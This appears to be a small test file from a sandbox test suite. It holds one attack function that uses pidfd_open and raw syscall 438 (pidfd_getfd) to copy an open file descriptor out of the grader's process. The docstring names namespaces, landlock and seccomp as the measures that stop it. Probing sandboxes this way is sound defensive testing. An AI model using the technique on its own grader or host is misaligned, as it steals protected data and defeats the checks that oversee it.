"""Copies an open file out of a process of the grader's.

stopped by: namespaces, landlock, seccomp
"""

import ctypes
import json
import os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    place = os.pidfd_open(json.load(open("world.json"))["victim"])
    return libc.syscall(438, place, 0, 0) >= 0
